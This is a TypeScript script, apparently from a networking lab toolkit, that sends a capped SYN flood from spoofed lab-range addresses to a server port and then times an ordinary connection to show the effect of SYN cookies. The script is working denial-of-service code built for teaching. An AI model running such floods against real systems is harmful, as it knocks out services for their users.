/**
 * A SYN flood against a listener with a tiny backlog, then one honest connection attempt:
 *   flood DST PORT [COUNT]
 * COUNT SYNs (at most 1000) leave from made-up sources inside the lab's range
 * (198.51.100.200-249) that nobody answers for, so every one stays half-open on the server.
 * Then the kernel's own connect() tries, for two seconds. Without SYN cookies the server's
 * SYN queue is full and drops the honest SYN too; with cookies it answers it anyway.
 */
import net from 'node:net';
import { IP, TCP } from '../../packet/factories.js';
import { send } from '../../sr/index.js';
import { addrArg, finish, intArg, labAddr, portArg, say } from './_common.js';

const dst = addrArg(0, 'destination address', labAddr('server'));
const dport = portArg(1, 'port');
const count = intArg(2, 'count', '200', 1000);

const flood = Array.from({ length: count }, (_, i) =>
  IP({ src: `198.51.100.${200 + (i % 50)}`, dst }).add(TCP({ sport: 1024 + i, dport, flags: 'S', seq: (i * 7919) >>> 0 })),
);
const t0 = performance.now();
await send(flood);
say(`sent ${count} SYNs from 198.51.100.200-249 in ${(performance.now() - t0).toFixed(1)} ms`);

const started = performance.now();
const outcome = await new Promise<string>((resolve) => {
  const s = net.connect({ host: dst, port: dport });
  const timer = setTimeout(() => {
    s.destroy();
    resolve('timeout');
  }, 2000);
  s.once('connect', () => {
    clearTimeout(timer);
    s.destroy();
    resolve('connected');
  });
  s.once('error', (err: NodeJS.ErrnoException) => {
    clearTimeout(timer);
    resolve(err.code ?? 'error');
  });
});
const ms = Math.round(performance.now() - started);
say(`honest connect(): ${outcome} after ${ms} ms`);
finish({ sent: count, outcome, ms });
